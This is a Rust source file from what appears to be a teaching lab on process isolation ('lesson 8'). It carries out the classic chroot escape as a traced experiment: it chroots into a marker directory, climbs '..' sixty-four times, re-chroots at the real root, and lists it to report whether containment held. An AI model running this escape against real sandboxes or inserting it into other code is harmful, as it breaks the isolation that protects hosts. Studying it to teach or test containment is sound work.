//! The classic chroot escape (lesson 8), done by the actor itself as an attacker would: chroot
//! into a subdirectory while the working directory stays outside it, climb `..` to the real root,
//! chroot there, and look. An actor that got out stays out: its later steps and its views in
//! snapshots are the escaped process's.

use std::path::Path;

use rootlab_shared::result::StepDetails;

use super::context::OpContext;
use super::outcome::{sys_error, Calls, Extra, OpResult};
use super::sys;

/// What the child saw.
#[derive(Default)]
struct Attempt {
    before: Vec<String>,
    after: Vec<String>,
    trace: Vec<String>,
}

pub fn attempt(ctx: &mut OpContext, calls: &mut Calls) -> OpResult {
    // The actor's own root, to come back to if the climb fails and to clean the marker up.
    let own_root =
        sys::open_dir(Path::new("/")).map_err(|e| sys_error("escape", "open(\"/\")", e))?;
    let seen = climb();
    calls.0.extend(seen.trace.iter().cloned());
    let escaped = !seen.after.is_empty() && seen.after != seen.before;
    if !escaped {
        // Held: back to the actor's own root (the climb ended there or never started).
        let _ = sys::fchdir(&own_root).and_then(|_| sys::chroot(Path::new(".")));
    }
    let _ = sys::chdir(Path::new("/"));
    // The marker directory is an artifact of the trick, not of the experiment.
    let _ = sys::rmdir_at(&own_root, ".escape");
    let mut trace = vec![match ctx.roots.last() {
        Some(r) => format!("this actor's root was set by: {r}"),
        None => "this actor never changed its root".to_string(),
    }];
    trace.extend(seen.trace);
    trace.push(if escaped {
        ctx.roots
            .push("the chroot escape (chroot \".\" after climbing ..)".into());
        "escaped: / now lists a different directory than the actor's own root; this actor's \
         later steps run there"
            .into()
    } else {
        "contained: climbing .. stopped at the actor's own root".into()
    });
    Ok(Extra {
        details: Some(StepDetails::Escape {
            escaped,
            root_listing: seen.after,
            trace,
        }),
        ..Extra::default()
    })
}

/// Each call is traced whether or not the kernel allows it.
fn climb() -> Attempt {
    let mut trace = Vec::new();
    let mut step = |text: &str, r: Result<(), sys::Errno>| {
        trace.push(match r {
            Ok(()) => text.to_string(),
            Err(e) => format!("{text} = -1 {e:?}"),
        });
        r.is_ok()
    };
    let made = match std::fs::create_dir("/.escape") {
        Err(e) if e.kind() != std::io::ErrorKind::AlreadyExists => {
            Err(sys::Errno::from_raw(e.raw_os_error().unwrap_or(0)))
        }
        _ => Ok(()),
    };
    let before = listing();
    let ok = step("mkdir(\"/.escape\")", made)
        && step("chdir(\"/\")", sys::chdir(Path::new("/")))
        && step("chroot(\"/.escape\")", sys::chroot(Path::new("/.escape")));
    let mut after = Vec::new();
    if ok {
        let mut climbed = Ok(());
        for _ in 0..64 {
            climbed = sys::chdir(Path::new(".."));
            if climbed.is_err() {
                break;
            }
        }
        step("chdir(\"..\") x 64", climbed);
        step("chroot(\".\")", sys::chroot(Path::new(".")));
        after = listing();
        trace.push(format!("ls / -> {}", after.join(" ")));
    }
    Attempt {
        before,
        after,
        trace,
    }
}

fn listing() -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir("/")
        .map(|d| {
            d.filter_map(|e| e.ok())
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    names.sort();
    names
}
